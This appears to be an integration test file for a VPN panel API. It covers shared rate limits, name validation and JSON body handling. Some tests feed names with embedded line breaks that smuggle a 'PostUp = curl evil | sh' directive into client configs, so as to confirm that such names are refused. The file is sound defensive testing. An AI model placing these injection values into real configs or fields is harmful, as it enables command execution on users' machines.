/**
 * The panel API's own defences (docs/API.md, Request limits and Bodies): request limits shared through Redis,
 * names that cannot start a line, client configs that refuse a line break whatever its source, and bodies that
 * are JSON or nothing.
 */
import { Client } from 'pg';
import { startPanel, testDatabaseUrl, dropDatabase, TestPanel } from '../support/panel';
import { Api, ApiAnswer, expectStatus } from './support/api';
import { apiOf, nodeBody, registerNode, sleep, storedState, tokenOf } from './support/fleet';

const WINDOW_S = 3;

function expectTooMany(answer: ApiAnswer): void {
  expect([answer.status, answer.body?.error?.code]).toEqual([429, 'too_many_requests']);
  const retryAfter = Number(answer.headers.get('retry-after'));
  expect(retryAfter).toBeGreaterThanOrEqual(1);
  expect(retryAfter).toBeLessThanOrEqual(WINDOW_S);
}

describe('request limits', () => {
  const databaseUrl = testDatabaseUrl();
  const env = {
    DATABASE_URL: databaseUrl,
    RATE_LIMIT_WINDOW_S: String(WINDOW_S),
    RATE_LIMIT_PER_TOKEN: '20',
    AUTH_FAILURE_LIMIT: '5',
  };
  let first: TestPanel;
  let second: TestPanel;
  let admin: Api;
  let secondAdmin: Api;

  /** The start of a fresh window: every count from before has expired. */
  const nextWindow = () => sleep(WINDOW_S * 1000 + 200);

  beforeAll(async () => {
    first = await startPanel(env);
    second = await startPanel(env);
    admin = await apiOf(first);
    secondAdmin = await apiOf(second);
  });

  afterAll(async () => {
    await second?.close();
    await first?.close();
    await dropDatabase(databaseUrl);
  });

  it('limits the requests of one token, across panels, and answers 429 with Retry-After', async () => {
    const { token } = await tokenOf(admin, 'read');
    const other = (await tokenOf(admin, 'read')).token;
    await nextWindow();
    const statuses: number[] = [];
    for (let i = 0; i < 10; i++) statuses.push((await admin.as(token).get('/api/nodes')).status);
    for (let i = 0; i < 10; i++) statuses.push((await secondAdmin.as(token).get('/api/nodes')).status);
    expect(statuses).toEqual(Array(20).fill(200));
    expectTooMany(await admin.as(token).get('/api/nodes'));
    expectTooMany(await secondAdmin.as(token).get('/api/nodes'));
    // Another token is counted on its own.
    expectStatus(await admin.as(other).get('/api/nodes'), 200);
    await nextWindow();
    expectStatus(await secondAdmin.as(token).get('/api/nodes'), 200);
  });

  it('limits requests with a wrong token per client address, across panels, and still serves a valid one', async () => {
    const { token } = await tokenOf(admin, 'read');
    await nextWindow();
    for (let i = 0; i < 5; i++) {
      const answer = await (i % 2 ? secondAdmin : admin).as(`wgf_guess${i}`).get('/api/nodes');
      expect(answer.status).toBe(401);
    }
    expectTooMany(await admin.as('wgf_guess5').get('/api/nodes'));
    // Over its limit, the address's wrong tokens are refused on both panels (they share the count), while a
    // valid token is served: only failures count against an address.
    expectTooMany(await secondAdmin.as('wgf_guess6').get('/api/nodes'));
    expectTooMany(await admin.as('wgf_guess7').get('/api/nodes'));
    expectStatus(await admin.as(token).get('/api/nodes'), 200);
    expectStatus(await secondAdmin.as(token).get('/api/nodes'), 200);
    // No token at all is a plain 401, and the open routes stay open.
    expectStatus(await admin.as(null).get('/api/nodes'), 401);
    expectStatus(await admin.as(null).get('/health'), 200);
    await nextWindow();
    expectStatus(await admin.as(token).get('/api/nodes'), 200);
  });
});

describe('names, client configs and bodies', () => {
  let panel: TestPanel;
  let api: Api;
  let nodeId: string;

  beforeAll(async () => {
    panel = await startPanel({ DRIFT_SCAN_INTERVAL_S: '86400' });
    api = await apiOf(panel);
    nodeId = (await registerNode(api, { address_pool: '10.77.0.0/24' })).id;
  });

  afterAll(async () => {
    await panel?.close();
  });

  it('refuses a name with a control character or any line break, naming the field, and stores nothing', async () => {
    const before = await storedState(api);
    const failures: string[] = [];
    for (const lineBreak of ['\n', '\r', '\u0085', '\u2028', '\u2029', '\u0000', '\u001b']) {
      const name = `alice${lineBreak}PostUp = curl evil | sh`;
      for (const [path, body, field] of [
        [`/api/nodes/${nodeId}/peers`, { name }, 'name'],
        ['/api/nodes', nodeBody({ name, address_pool: '10.78.0.0/24' }), 'name'],
        ['/api/tokens', { name, role: 'read' }, 'name'],
        ['/api/webhooks', { url: 'https://hooks.example.com/x', description: name }, 'description'],
      ] as const) {
        const answer = await api.post(path, body);
        const namesField = (answer.body?.error?.details ?? []).some(
          (detail: { field?: string }) => detail.field === field,
        );
        if (answer.status !== 400 || !namesField) {
          failures.push(
            `${path} ${JSON.stringify(lineBreak)} → ${answer.status}: ${answer.text.slice(0, 200)}`,
          );
        }
      }
    }
    expect(failures).toEqual([]);
    expect(await storedState(api)).toEqual(before);
  });

  it('refuses to render a config from a stored name with a line break', async () => {
    const peer = expectStatus(await api.post(`/api/nodes/${nodeId}/peers`, { name: 'legacy' }), 201).body;
    // A name stored before names were checked.
    const db = new Client({ connectionString: panel.databaseUrl });
    await db.connect();
    try {
      await db.query(`update peers set name = $1 where id = $2`, ['legacy\u2028PostUp = id', peer.id]);
    } finally {
      await db.end();
    }
    for (const path of [`/api/peers/${peer.id}/config`, `/api/peers/${peer.id}/qr`]) {
      const answer = await api.get(path);
      expect(answer.status).toBe(409);
      expect(answer.body.error.message).toMatch(/name holds a line break/);
      expect(answer.text).not.toContain('PostUp');
    }
  });

  it('takes an empty body of any type as no body, and refuses any other body that is not JSON', async () => {
    const reconcile = `/api/drift/nodes/${nodeId}/reconcile`;
    const refused = await api.post(reconcile, { raw: 'hello', contentType: 'text/plain' });
    expect([refused.status, refused.body.error.code]).toEqual([415, 'unsupported_media_type']);
    const malformed = await api.post(reconcile, { raw: '{"dry_run": tru', contentType: 'application/json' });
    expect([malformed.status, malformed.body.error.message]).toEqual([400, 'body: is not valid JSON']);
    // An empty body means every default: for reconcile, a job is queued.
    const empty = await api.post(reconcile, { raw: '', contentType: 'text/plain' });
    expect(empty.status).toBe(202);
    expect(empty.body.job_id).toEqual(expect.any(String));
  });
});
